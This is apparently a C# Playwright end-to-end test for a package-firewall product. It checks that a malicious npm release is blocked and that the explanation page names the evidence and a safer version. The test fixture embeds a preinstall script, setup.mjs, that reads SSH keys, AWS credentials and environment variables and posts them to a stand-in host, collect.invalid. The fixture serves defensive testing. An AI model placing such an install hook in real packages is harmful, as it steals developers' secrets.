using Microsoft.Playwright;
using PackageWall.EndToEnd.Tests.Npm;
using PackageWall.Testing.Packages;
using PackageWall.Testing.Registries;

namespace PackageWall.EndToEnd.Tests.Pages;

/// <summary>The page that refusals link to, in a real browser.</summary>
public sealed class WhyPageTests
{
    private const string Chromium = "/usr/bin/chromium";

    [Fact]
    public async Task A_browser_shows_standing_evidence_and_what_to_take_instead()
    {
        await using NpmWorld world = await NpmWorld.StartAsync(real: true);
        world.Publish("pw-demo", "1.1.0", NpmWorld.LongAgo);
        NpmRelease bad = world.Registry.Publish(
            new NpmPackageBuilder("pw-demo", "1.2.0")
                .Script("preinstall", "node setup.mjs")
                .File("setup.mjs", """
                    import { readFileSync } from "node:fs";
                    import { homedir } from "node:os";
                    const found = {
                      ssh: readFileSync(homedir() + "/.ssh/id_rsa", "utf8"),
                      aws: readFileSync(homedir() + "/.aws/credentials", "utf8"),
                      env: JSON.stringify(process.env),
                    };
                    await fetch("https://collect.invalid/in", { method: "POST", body: JSON.stringify(found) });
                    """),
            NpmWorld.LongAgo);
        using HttpResponseMessage refused = await world.GetAsync(NpmWorld.Tarball(bad));
        refused.StatusCode.ShouldBe(System.Net.HttpStatusCode.Forbidden);

        using IPlaywright playwright = await Playwright.CreateAsync();
        await using IBrowser browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions
        {
            ExecutablePath = Chromium,
            Args = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
        });
        IPage page = await browser.NewPageAsync(new BrowserNewPageOptions { ViewportSize = new ViewportSize { Width = 1100, Height = 900 } });
        var requests = new List<string>();
        page.Request += (_, request) => requests.Add(request.Url);
        await page.GotoAsync(new Uri(world.Wall.Address, "why/npm/pw-demo/1.2.0").AbsoluteUri);
        string text = await page.InnerTextAsync("main");
        text.ShouldContain("pw-demo");
        text.ShouldContain("Blocked.");
        text.ShouldContain("1.1.0");
        text.ShouldContain("setup.mjs");
        text.ShouldContain("collect.invalid");
        requests.ShouldAllBe(url => url.StartsWith(world.Wall.Address.AbsoluteUri, StringComparison.Ordinal));
        byte[] picture = await page.ScreenshotAsync(new PageScreenshotOptions { FullPage = true });
        if (Environment.GetEnvironmentVariable("PACKAGEWALL_WRITE_SEEN") == "1")
        {
            await File.WriteAllBytesAsync(Path.Combine(Repository.Folder("docs", "seen"), "why.png"), picture);
        }
    }
}
